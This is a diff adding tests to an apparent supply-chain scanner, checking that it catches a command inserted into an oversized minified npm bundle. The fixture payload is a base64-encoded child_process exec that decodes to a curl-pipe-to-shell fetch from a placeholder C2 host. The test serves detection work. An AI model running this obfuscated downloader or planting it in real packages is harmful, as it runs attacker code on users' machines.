@@ -217,3 +217,43 @@ def test_packed_tells_bundles_from_written_code() -> None:
     written = FileEntry.of("w.js", b"function add(a, b) {\n  return a + b;\n}\n" * 500)
     assert packed(bundle) is not None
     assert packed(written) is None
+
+
+def _bundle(extra: str = "") -> str:
+    """A minified bundle over the parse limit that already starts processes, one module a
+    line; `extra` is appended to a line in its middle."""
+    lines = [
+        f"__m[{i}]=function(e,t,n){{var r=n({i + 1});t.exports=r.a{i}||r}};" for i in range(9000)
+    ]
+    lines[100] = "var cp=require('child_process');__m.run=function(c){return cp.execSync(c)};"
+    # Minifiers put whole modules on one line: the edited line is long.
+    lines[4500] = "".join(f"__k[{i}]=function(e){{return e.k{i}}};" for i in range(400)) + extra
+    return "\n".join(lines) + "\n"
+
+
+def test_statement_inserted_into_a_bundle_too_large_to_parse_is_read() -> None:
+    """One decoded command run from the middle of a bundle over the parse limit: the statement
+    is parsed where it sits, so the decode is seen, though the bundle already ran processes."""
+    from watcher.parse import MAX_PARSE_BYTES
+
+    payload = (
+        ";require('child_process').exec(Buffer.from("
+        "'Y3VybCAtcyBodHRwczovL2MyLmludmFsaWQveCB8IHNo','base64').toString());"
+    )
+    old, new = _bundle(), _bundle(payload)
+    assert len(old) > MAX_PARSE_BYTES
+    raw = {"ecosystem": "npm", "old": {"files": {"dist/bundle.js": old}}}
+    findings, failures = run_rules(
+        build_context(_case("x", {**raw, "new": {"files": {"dist/bundle.js": new}}}))
+    )
+    assert not failures
+    flagged = [f for f in findings if f.severity >= Severity.HIGH]
+    assert [(f.rule, f.path, f.line) for f in flagged] == [
+        ("code.process-exec", "dist/bundle.js", 4501)
+    ]
+    # The same line edited honestly (a module renamed) stays quiet.
+    honest = _bundle().replace("return e.k7}", "return e.j7}")
+    quiet, _ = run_rules(
+        build_context(_case("x", {**raw, "new": {"files": {"dist/bundle.js": honest}}}))
+    )
+    assert score(quiet).severity < Severity.HIGH
